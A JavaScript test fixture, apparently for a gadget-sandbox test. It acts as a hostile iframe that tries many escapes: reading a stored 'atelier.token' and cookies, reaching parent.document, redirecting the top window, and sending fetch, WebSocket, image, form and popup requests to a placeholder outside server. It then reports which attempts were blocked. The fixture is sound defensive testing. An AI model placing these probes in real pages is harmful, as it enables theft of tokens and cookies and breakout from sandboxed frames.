// A hostile gadget UI: deployed as a gadget's client.js by TestGadgetFrameSandbox, it tries every
// way out of its frame and writes what happened as JSON into #report (the test reads it there).
// __OUTSIDE__ is replaced with the URL of a server that counts the requests it gets.
const OUTSIDE = "__OUTSIDE__";
const report = { violations: [], attempts: {} };
document.addEventListener("securitypolicyviolation", (e) => {
  report.violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
});
const settle = (ms) => new Promise((r) => setTimeout(r, ms));
const errText = (e) => `${(e && e.name) || "Error"}: ${(e && e.message) || e}`;

async function attempt(name, fn) {
  try {
    report.attempts[name] = { outcome: "allowed", detail: String(await fn()) };
  } catch (e) {
    report.attempts[name] = { outcome: "threw", detail: errText(e) };
  }
}

await attempt("fetch", () => fetch(OUTSIDE + "/fetch").then((r) => r.status));
await attempt("websocket", () => new Promise((resolve, reject) => {
  const ws = new WebSocket(OUTSIDE.replace(/^http/, "ws") + "/ws");
  ws.onopen = () => resolve("open");
  ws.onerror = () => reject(new Error("websocket error event"));
}));
await attempt("parent.document", () => parent.document.title);
await attempt("top.location", () => {
  top.location.href = OUTSIDE + "/top";
  return "assigned";
});
await attempt("localStorage", () => localStorage.getItem("atelier.token"));
await attempt("document.cookie", () => document.cookie);
await attempt("window.open", () => {
  const w = window.open(OUTSIDE + "/popup");
  if (w === null) throw new Error("window.open returned null");
  return "opened";
});
await attempt("img", () => new Promise((resolve, reject) => {
  const img = new Image();
  img.onload = () => resolve("loaded");
  img.onerror = () => reject(new Error("img error event"));
  img.src = OUTSIDE + "/img.png";
  document.body.append(img);
}));
await attempt("form", async () => {
  const form = document.createElement("form");
  form.method = "post";
  form.action = OUTSIDE + "/form";
  form.innerHTML = '<input name="x" value="1">';
  document.body.append(form);
  form.submit();
  await settle(300);
  return "still here after submit"; // a navigation would have ended this script
});
await attempt("gadget.delete", () => gadget.delete()); // not an export: the frame reaches only its gadget's methods
await attempt("gadget.add", () => gadget.add("probe").then((t) => t.title));
await attempt("gadget.list", () => gadget.list().then((l) => l.map((t) => t.title).join(",")));
await settle(300); // late violation events
const out = document.createElement("pre");
out.id = "report";
out.textContent = JSON.stringify(report);
document.body.append(out);
